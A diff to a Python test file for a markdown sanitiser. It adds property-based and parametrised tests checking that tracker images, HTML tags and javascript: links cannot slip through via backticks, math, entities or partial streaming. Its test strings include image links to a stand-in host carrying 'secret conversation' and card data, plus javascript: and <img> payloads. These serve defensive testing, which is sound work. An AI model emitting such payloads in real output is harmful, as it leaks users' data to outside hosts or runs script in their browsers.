@@ -9,7 +9,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from components.ui.markdown_safety import safe_markdown, safe_partial_markdown, stream_safely
+from components.text.markdown_parser import parse
+from components.text.markdown_safety import (
+    escape_markdown,
+    safe_markdown,
+    safe_partial_markdown,
+    stream_safely,
+)
+from tests.markdown_oracle import findings, walk
 
 TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
 
@@ -54,6 +61,8 @@ def _links(markdown: str) -> list[str]:
     """The addresses of the explicit links in rendered output (ours are always ``(<…>)``)."""
     return re.findall(r"\]\(<([^<>]*)>\)", _without_code_spans(_FENCED.sub("", markdown)))
 
+
+# --- the parser as the oracle ---------------------------------------------------------------
 
 # --- images ---------------------------------------------------------------------------------
 
@@ -139,7 +148,6 @@ def test_unfinished_tag_cannot_become_html():
     [
         '<a href="https://e.org/d?a=1&amp;b=2">docs</a>',
         "<a href='https://e.org/d?a=1&amp;b=2'>docs</a>",
-        "<a href=https://e.org/d?a=1&amp;b=2>docs</a>",
         '<A class="x" HREF = "https://e.org/d?a=1&amp;b=2" >docs</A>',
     ],
 )
@@ -147,6 +155,14 @@ def test_html_link_shows_its_text_and_clean_address_as_code(html):
     out = safe_markdown(f"see {html}。")
     assert out == "see docs (`https://e.org/d?a=1&b=2`)。"
     assert "%22" not in out and '">' not in out
+
+
+def test_tag_that_commonmark_does_not_read_as_html_stays_text_with_a_web_link():
+    # An unquoted value may not hold "=": CommonMark (and so the renderer) reads this as text,
+    # so it is shown as text, with the address a plain web link, and the lone </a> as code.
+    out = safe_markdown("see <a href=https://e.org/d?a=1&amp;b=2>docs</a>。")
+    assert findings(out) == []
+    assert "`</a>`" in out and "\\<a href=" in out
 
 
 def test_html_link_whose_text_is_its_address_is_shown_once():
@@ -365,3 +381,163 @@ def test_line_break_tags_become_line_breaks_not_code():
     assert safe_markdown("one<br>two<br/>\nthree") == "one\\\ntwo\\\nthree"
     table = "| a | b |\n|---|---|\n| 1<br>2 | 3 |"
     assert safe_markdown(table) == "| a | b |\n|---|---|\n| 1 / 2 | 3 |"
+
+
+# --- issue 19, item 5: where the regex scanner and the renderer disagreed --------------------
+
+LEAK = "![](http://evil.example/leak?q=card-4242)"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"[source](http://x/`){LEAK}` ",
+        f"[source](<http://x/`>){LEAK}` ",
+        f'[source](http://x/ "`"){LEAK}` ',
+        f"[source](http://x/ '`'){LEAK}` ",
+        f"```a`b\n{LEAK}\n```",
+        f"    ```\n{LEAK}\n    ```",
+        f"\t```\n{LEAK}\n\t```",
+    ],
+    ids=["title-less", "angle", "double-title", "single-title", "info", "indent", "tab"],
+)
+def test_backticks_where_commonmark_opens_no_code_still_cannot_hide_an_image(text):
+    out = safe_markdown(text)
+    assert findings(out) == [], out
+    assert findings(safe_partial_markdown(text)) == []
+    assert "`http://evil.example/leak?q=card-4242`" in out  # shown as a placeholder
+
+
+def test_a_fence_commonmark_accepts_is_kept_as_written():
+    text = f"```python\n{LEAK}\n<img src=x>\n```\n\n~~~ a`b\n{LEAK}\n~~~"
+    assert safe_markdown(text) == text
+
+
+def test_math_that_hides_a_code_span_cannot_hide_an_image():
+    # remark-math reads $`$ as math, which frees the image a plain CommonMark parse sees as code.
+    text = f"$`$ {LEAK} `$`"
+    out = safe_markdown(text)
+    assert findings(out) == [], out
+    assert "evil.example" not in out or "`http://evil.example/leak?q=card-4242`" in out
+
+
+def test_math_is_kept_as_written_even_beside_a_link():
+    text = "Area $\\pi r^2$ and $$x_1$$, see [docs](https://e.org)."
+    out = safe_markdown(text)
+    assert "$\\pi r^2$" in out and "$$x_1$$" in out
+    assert findings(out) == []
+
+
+def test_entities_cannot_spell_a_tag_or_an_image():
+    out = safe_markdown("&lt;img src=http://evil/x&gt; and &#33;&#91;a](http://evil/y)")
+    assert findings(out) == []
+    assert "<img" not in out.replace("\\<img", "")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "![](http://evil.example/a.png)",
+        "<img src=http://evil.example/a.png>",
+        "[x](javascript:alert(1))",
+        "1. **b** `c` http://evil.example/ www.evil.example :red[x] $y$",
+    ],
+)
+def test_escaped_labels_render_as_their_literal_text(name):
+    out = escape_markdown(name)
+    tokens = [t for t in walk(parse(out, math=True)) if t.type not in ("inline",)]
+    assert [t.type for t in tokens] == ["paragraph_open", "text", "paragraph_close"], out
+    assert tokens[1].content.replace("\u2060", "") == name
+
+
+# --- the differential property: the parser reads no image, HTML or odd link in the output ----
+
+HOSTILE_PIECES = st.sampled_from(
+    [
+        "`",
+        "``",
+        "```",
+        "```\n",
+        "```a`b\n",
+        "~~~\n",
+        "~~~ `x`\n",
+        "$",
+        "$$",
+        "$$\n",
+        "    ",
+        "\t",
+        "  ",
+        " ",
+        "\n",
+        "\n\n",
+        "> ",
+        "- ",
+        "1. ",
+        "* ",
+        "|",
+        "| --- |\n",
+        "!",
+        "[",
+        "]",
+        "(",
+        ")",
+        "](",
+        "![",
+        "<",
+        ">",
+        '"',
+        "'",
+        "\\",
+        ":",
+        "http://e.example/p.png",
+        "<http://e.example/a>",
+        "<javascript:alert(1)>",
+        "www.e.example",
+        "javascript:x",
+        "data:text/html,x",
+        "a@b.example",
+        "[r]: http://e.example/r.png\n",
+        "[r]: <javascript:x> 't'\n",
+        "[r]",
+        "[r][]",
+        "<img src=x>",
+        "<img\nsrc=x>",
+        "<div>\n",
+        "</div>",
+        "<a href='http://e.example'>",
+        "<a href=javascript:x>",
+        "</a>",
+        "<!--",
+        "-->",
+        "<?x?>",
+        "<![CDATA[",
+        "<br>",
+        "&lt;",
+        "&gt;",
+        "&#33;",
+        "&#x5B;",
+        "&#91;",
+        "&amp;",
+        "&quot;",
+        "看",
+        "。",
+        "x",
+        "*",
+        "_",
+        "~~",
+    ]
+)
+
+
+@settings(max_examples=600, deadline=None)
+@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
+def test_the_parser_reads_no_image_html_or_odd_link_in_the_output(text):
+    out = safe_markdown(text)
+    assert findings(out) == [], (text, out)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
+def test_the_parser_reads_none_in_any_live_view_either(text):
+    for cut in range(0, len(text) + 1, max(1, len(text) // 6)):
+        assert findings(safe_partial_markdown(text[:cut])) == [], text[:cut]
